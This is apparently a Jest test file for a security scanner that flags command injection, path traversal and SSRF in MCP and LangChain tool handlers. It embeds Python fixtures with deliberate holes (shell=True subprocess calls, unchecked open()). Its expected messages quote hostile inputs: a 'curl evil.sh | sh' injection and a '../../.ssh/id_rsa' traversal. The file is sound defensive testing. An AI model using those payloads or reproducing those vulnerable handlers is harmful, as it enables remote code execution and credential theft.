import { describe, expect, it } from '@jest/globals';
import { defaultConfig } from '../../src/core/config.js';
import type { ProjectContext } from '../../src/core/types.js';
import { toolInputRules } from '../../src/families/tool-input/index.js';
import { decodeText } from '../../src/sources/read.js';
import { analyzeHandler } from '../../src/families/tool-input/taint/index.js';
import { analyzeSinks } from '../../src/families/tool-input/index.js';
import type { ToolHandler } from '../../src/families/tool-input/discovery/types.js';
import { runOnFiles } from '../helpers/rules.js';
import { join } from 'node:path';
import { FIXTURES, loadFixtures, SINK_RULES } from './shared.js';

const SERVER = [
  'from mcp.server.fastmcp import FastMCP',
  'from .helpers import run_command',
  'mcp = FastMCP("x")',
  '',
  '@mcp.tool()',
  'def deploy(target: str) -> str:',
  '    cmd = "deploy " + target',
  '    return run_command(cmd)',
  '',
].join('\n');
const HELPERS = ['import subprocess', '', 'def run_command(command):', '    return subprocess.check_output(command, shell=True)', ''].join('\n');

describe('tool-input findings', () => {
  it('reports a cross-file flow in the callee file with the parameter as related location and the steps as flow', async () => {
    const r = await runOnFiles(SINK_RULES, { 'app/server.py': SERVER, 'app/helpers.py': HELPERS });
    expect(r.findings).toHaveLength(1);
    const f = r.findings[0];
    expect(f.ruleId).toBe('tool-input/command-injection');
    expect(f.path).toBe('app/helpers.py');
    expect(f.range.startLine).toBe(4);
    expect(f.message).toContain('Tool "deploy"');
    expect(f.message).toContain('"target"');
    expect(f.message).toContain('subprocess.check_output(shell=True)');
    expect(f.related).toEqual([
      { path: 'app/server.py', range: { startLine: 6, startColumn: 12, endLine: 6, endColumn: 18 }, message: 'tool parameter "target" (model-controlled)' },
    ]);
    expect(f.flow.map((s) => `${s.path}:${s.range.startLine} ${s.message}`)).toEqual([
      'app/server.py:6 tool parameter "target" (model-controlled)',
      'app/server.py:7 cmd = "deploy " + target',
      'app/server.py:8 passed to run_command() as command',
      'app/helpers.py:3 parameter command of run_command()',
      'app/helpers.py:4 reaches subprocess.check_output(shell=True)',
    ]);
  });

  it('words a flow out of an MCP resource or prompt handler as such (client-controlled, not a tool)', async () => {
    const text = [
      'import subprocess',
      'from mcp.server.fastmcp import FastMCP',
      'mcp = FastMCP("x")',
      '@mcp.resource("files://{name}")',
      'def read_file(name: str) -> str:',
      '    return open(name).read()',
      '@mcp.prompt()',
      'def run(cmd: str) -> str:',
      '    return subprocess.check_output(cmd, shell=True, text=True)',
      '',
    ].join('\n');
    const r = await runOnFiles(SINK_RULES, { 'srv/resources.py': text });
    expect(r.findings.map((f) => `${f.range.startLine} ${f.message}`)).toEqual([
      '6 MCP resource handler "read_file" passes client-controlled parameter "name" to open(): a value such as "../../.ssh/id_rsa" reads, overwrites or deletes any file the agent can reach.',
      '9 MCP prompt handler "run" passes client-controlled parameter "cmd" to subprocess.check_output(shell=True): a value such as "x; curl evil.sh | sh" runs any command as the agent.',
    ]);
    expect(r.findings.map((f) => f.related?.[0]?.message)).toEqual([
      'MCP resource parameter "name" (client-controlled)',
      'MCP prompt parameter "cmd" (client-controlled)',
    ]);
    expect(r.findings[0].flow[0].message).toBe('MCP resource parameter "name" (client-controlled)');
  });

  it('words an SSRF flow whose host was checked before a redirect-following request as such (tool and resource)', async () => {
    const guard = [
      'import ipaddress',
      'import socket',
      'from urllib.parse import urlparse',
      '',
      'def assert_public(url):',
      '    address = socket.gethostbyname(urlparse(url).hostname)',
      '    if ipaddress.ip_address(address).is_private:',
      '        raise ValueError("private address")',
      '',
    ].join('\n');
    const server = [
      'import requests',
      'from mcp.server.fastmcp import FastMCP',
      'from .net import assert_public',
      'mcp = FastMCP("x")',
      '@mcp.tool()',
      'def fetch(url: str) -> str:',
      '    assert_public(url)',
      '    return requests.get(url).text',
      '@mcp.resource("page://{url}")',
      'def page(url: str) -> str:',
      '    assert_public(url)',
      '    return requests.get(url).text',
      '',
    ].join('\n');
    const r = await runOnFiles(SINK_RULES, { 'srv/net.py': guard, 'srv/server.py': server });
    expect(r.findings.map((f) => `${f.range.startLine} ${f.message.split(':')[0]}`)).toEqual([
      '8 Tool "fetch" passes model-controlled parameter "url" to requests.get(), which follows redirects',
      '12 MCP resource handler "page" passes client-controlled parameter "url" to requests.get(), which follows redirects',
    ]);
    expect(r.findings[0].message).toContain('Turn redirects off');
  });

  it('keeps the fingerprint when unrelated lines move', async () => {
    const a = await runOnFiles(SINK_RULES, { 'app/server.py': SERVER, 'app/helpers.py': HELPERS });
    const b = await runOnFiles(SINK_RULES, { 'app/server.py': '\n\n' + SERVER, 'app/helpers.py': '# moved\n' + HELPERS });
    expect(b.findings[0].fingerprint).toBe(a.findings[0].fingerprint);
  });

  it('honours agent-guard-ignore on the sink line', async () => {
    const text = [
      'from mcp.server.fastmcp import FastMCP',
      'mcp = FastMCP("x")',
      '@mcp.tool()',
      'def cat(path: str) -> str:',
      '    # agent-guard-ignore tool-input/path-traversal: sandboxed container, read-only mount',
      '    return open(path).read()',
      '',
    ].join('\n');
    const r = await runOnFiles(SINK_RULES, { 'a.py': text });
    expect(r.findings).toEqual([]);
    expect(r.suppressed).toBe(1);
  });

  it('registers the sink analyzer used by `agent-guard tools`, and analyses a handler given directly', async () => {
    const text = ['import os', 'def handler(path, mode):', '    os.remove(path)', '    return mode', ''].join('\n');
    const files: Record<string, string> = { 'h.py': text };
    const memo = new Map<string, Promise<unknown>>();
    const project: ProjectContext = {
      root: '/virtual',
      config: defaultConfig(),
      getFile: async (p) => {
        const r = p in files ? decodeText(p, Buffer.from(files[p]), 1e6) : null;
        return r && 'file' in r ? r.file : null;
      },
      allPaths: async () => Object.keys(files),
      memo: <T>(k: string, fn: () => Promise<T>) => {
        if (!memo.has(k)) memo.set(k, fn());
        return memo.get(k) as Promise<T>;
      },
    };
    const start = text.indexOf('def handler');
    const range = { startLine: 2, startColumn: 13, endLine: 2, endColumn: 17 };
    const handler: ToolHandler = {
      framework: 'langchain',
      language: 'python',
      name: 'remove',
      registration: { path: 'h.py', range },
      handler: { path: 'h.py', startIndex: start, endIndex: text.length - 1, range },
      parameters: [{ name: 'path', shape: 'value', range }],
    };
    const flows = await analyzeHandler(handler, project);
    expect(flows.map((f) => [f.kind, f.sink, f.range.startLine])).toEqual([['path', 'os.remove()', 3]]);
    expect(await analyzeSinks(handler, project)).toEqual([{ ruleId: 'tool-input/path-traversal', sink: 'os.remove()', path: 'h.py', line: 3 }]);
  });

  it('names the tool of the branch in a low-level handler serving several tools (messages and fingerprints)', async () => {
    const py = [
      'import subprocess',
      'from enum import Enum',
      'from mcp.server import Server',
      'server = Server("x")',
      'class Tools(str, Enum):',
      '    INIT = "init"',
      '@server.call_tool()',
      'async def call_tool(name: str, arguments: dict):',
      '    if name == "status":',
      '        return subprocess.check_output("git status " + arguments["path"], shell=True)',
      '    elif name in ("cat", "head"):',
      '        return open(arguments["path"]).read()',
      '    elif name == Tools.INIT:',
      '        return open(arguments["target"], "w")',
      '    match name:',
      '        case "run":',
      '            return subprocess.check_output(arguments["cmd"], shell=True)',
      '    return open(arguments["other"]).read()',
      '',
    ].join('\n');
    const r = await runOnFiles(SINK_RULES, { 's.py': py });
    const tools = r.findings.map((f) => `${f.range.startLine} ${/Tool "([^"]+)"/.exec(f.message)![1]}`);
    expect(tools).toEqual(['10 status', '12 cat|head', '14 init', '17 run', '18 status|cat|head|init|run']);
    expect(new Set(r.findings.map((f) => f.fingerprint)).size).toBe(5);
  });

  it('names the tool of the switch case, through a barrel module, in a TypeScript low-level handler', async () => {
    const r = await runOnFiles(SINK_RULES, loadFixtures(join(FIXTURES, 'js')));
    const mine = r.findings.filter((f) => f.path.startsWith('js/barrel/'));
    expect(mine.map((f) => `${f.path}:${f.range.startLine} ${/Tool "([^"]+)"/.exec(f.message)![1]}`).sort()).toEqual([
      'js/barrel/files.ts:4 read_file|cat',
      'js/barrel/tasks.ts:4 start_task',
    ]);
    // a name checked by a parameterised lookup (describe_table) shares the helper's sink line with one that is not
    const sqlite = r.findings.filter((f) => f.path === 'js/sqlite_tools.ts').map((f) => /Tool "([^"]+)"/.exec(f.message)![1]);
    expect(sqlite.sort()).toEqual(['count_rows', 'read_note_loose']);
  });

  it('names the string parameter, not the validated int beside it, and skips int/bool-only commands', async () => {
    const r = await runOnFiles(SINK_RULES, loadFixtures(join(FIXTURES, 'python')));
    const ping = r.findings.filter((f) => f.path === 'python/lab/shell.py' && f.message.includes('Tool "ping'));
    expect(ping.map((f) => f.message.match(/parameter "(\w+)"/)![1])).toEqual(['host']);
  });

  it('names the argv element that is not an option value, and the schema field that is not constrained', async () => {
    const named = (r: Awaited<ReturnType<typeof runOnFiles>>, path: string, tool: string) =>
      r.findings.filter((f) => f.path === path && f.message.includes(`Tool "${tool}"`)).map((f) => f.message.match(/parameter "(\w+)"/)![1]);
    const py = await runOnFiles(SINK_RULES, loadFixtures(join(FIXTURES, 'python')));
    expect(named(py, 'python/option_values.py', 'two_values')).toEqual(['ref']);
    const js = await runOnFiles(SINK_RULES, loadFixtures(join(FIXTURES, 'js')));
    expect(named(js, 'js/option_values.ts', 'two_values')).toEqual(['ref']);
    expect(named(js, 'js/schema_module/tool.ts', 'git_branch')).toEqual(['path']);
  });

  it('names the list a loop over zip()/enumerate() takes the flowing element from', async () => {
    const r = await runOnFiles(SINK_RULES, loadFixtures(join(FIXTURES, 'python')));
    const named = (tool: string) =>
      r.findings
        .filter((f) => f.path === 'python/parallel_lists.py' && f.message.includes(`Tool "${tool}"`))
        .map((f) => f.message.match(/parameter "(\w+)"/)![1]);
    expect(named('batch_write')).toEqual(['outputs']);
    expect(named('batch_write_comprehension')).toEqual(['outputs']);
    expect(named('ping_all')).toEqual(['hosts']);
    expect(named('numbered_pages')).toEqual([]);
  });

  it('every sink rule is registered in the tool-input family', () => {
    const ids = toolInputRules.map((r) => r.meta.id);
    for (const r of SINK_RULES) expect(ids).toContain(r.meta.id);
  });
});
